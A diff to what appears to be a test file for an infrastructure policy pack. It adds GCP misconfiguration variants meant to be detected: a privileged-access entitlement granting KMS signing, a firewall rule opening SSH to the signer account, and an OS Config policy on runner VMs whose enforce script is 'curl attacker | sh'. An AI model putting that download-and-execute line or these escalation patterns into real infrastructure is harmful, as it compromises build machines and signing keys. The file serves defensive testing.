@@ -39,7 +39,36 @@ const LABELS = "role-labels-required";
 const podCr = (h: Handles, name: string, apiVersion: string, kind: string, spec: Record<string, unknown>, namespace: pulumi.Input<string> = h.k8sNamespace.metadata.name) =>
     new k8s.apiextensions.CustomResource(name, { apiVersion, kind, metadata: { namespace }, spec }, { provider: h.k8sProvider });
 
+
+/** A folder firewall policy with one ingress allow from 10.0.0.0/8, aimed at the given account only. */
+const folderRule = (name: string, sa: pulumi.Input<string>) => {
+    const policy = new gcp.compute.FirewallPolicy(`${name}-policy`, { parent: "folders/123456789012", shortName: name });
+    new gcp.compute.FirewallPolicyRule(name, { firewallPolicy: policy.name, priority: 100, direction: "INGRESS", action: "allow",
+        targetServiceAccounts: [sa], match: { srcIpRanges: ["10.0.0.0/8"], layer4Configs: [{ ipProtocol: "tcp", ports: ["22"] }] } });
+    new gcp.compute.FirewallPolicyAssociation(`${name}-assoc`, { firewallPolicy: policy.id, attachmentTarget: "folders/123456789012" });
+};
+
 export const CLASS_VARIANTS: ClassVariant[] = [
+    { name: "a Privileged Access Manager entitlement grants signing on the signer project", cls: "grants outside the IAM types", policy: UNCLASSIFIED, offender: "pam-signer", mentions: "no rule of the pack reads it yet",
+        mutate: add(() => {
+            new gcp.privilegedaccessmanager.Entitlement("pam-signer", {
+                entitlementId: "sign-now", location: "global", maxRequestDuration: "3600s", parent: `projects/${SIGNER_PROJECT}`,
+                eligibleUsers: [{ principals: ["group:devs@acme.example"] }],
+                privilegedAccess: { gcpIamAccess: { resource: `//cloudresourcemanager.googleapis.com/projects/${SIGNER_PROJECT}`, resourceType: "cloudresourcemanager.googleapis.com/Project", roleBindings: [{ role: "roles/cloudkms.signer" }] } },
+                requesterJustificationConfig: { unstructured: {} },
+            });
+        }) },
+    { name: "an OS Config policy runs a script on the runner VMs", cls: "VM side", policy: UNCLASSIFIED, offender: "os-policy", mentions: "no rule of the pack reads it yet",
+        mutate: add((h) => {
+            new gcp.osconfig.OsPolicyAssignment("os-policy", {
+                project: WORKER_PROJECT, location: "europe-west1-b", name: "persist",
+                instanceFilter: { inclusionLabels: [{ labels: { "build-fleet-role": "runner" } }] },
+                osPolicies: [{ id: "persist", mode: "ENFORCEMENT", resourceGroups: [{ resources: [{ id: "run", exec: { validate: { interpreter: "SHELL", script: "exit 100" }, enforce: { interpreter: "SHELL", script: "curl attacker | sh" } } }] }] }],
+                rollout: { disruptionBudget: { percent: 100 }, minWaitDuration: "0s" },
+            }, { dependsOn: [h.vmTemplate] });
+        }) },
+    { name: "a folder firewall rule aimed at the signer's account opens the signer network to 10.0.0.0/8", cls: "network joins", policy: "pool-network-separation", offender: "folder-signer-in",
+        mutate: add((h) => folderRule("folder-signer-in", h.signer.sa.email)) },
     { name: "a TPU VM (a runs row with no reviewed spec) runs as the signer SA", cls: "compute kinds read from the table", policy: ENCLAVE, offender: "signer-sa",
         also: [{ policy: LPV }, { policy: LABELS }],
         mutate: add((h) => {
@@ -138,6 +167,9 @@ export const CLASS_VARIANTS: ClassVariant[] = [
 
 /** Sound designs with principals the pack cannot resolve: no platform capability, so no finding. */
 export const CLASS_SECURE: { name: string; mutate: (m: Mutations) => void }[] = [
+    { name: "a folder firewall rule aimed at an account no workload of the stack runs as", mutate: add(() => {
+        folderRule("folder-tools-in", new gcp.serviceaccount.Account("tools-sa", { project: WORKER_PROJECT, accountId: "tools" }).email);
+    }) },
     { name: "a verifier group reads the signer's public key", mutate: add((h) => {
         new gcp.kms.CryptoKeyIAMMember("verifiers-read-key", { cryptoKeyId: h.key.id, role: "roles/cloudkms.publicKeyViewer", member: "group:release-verifiers@acme.example" });
     }) },
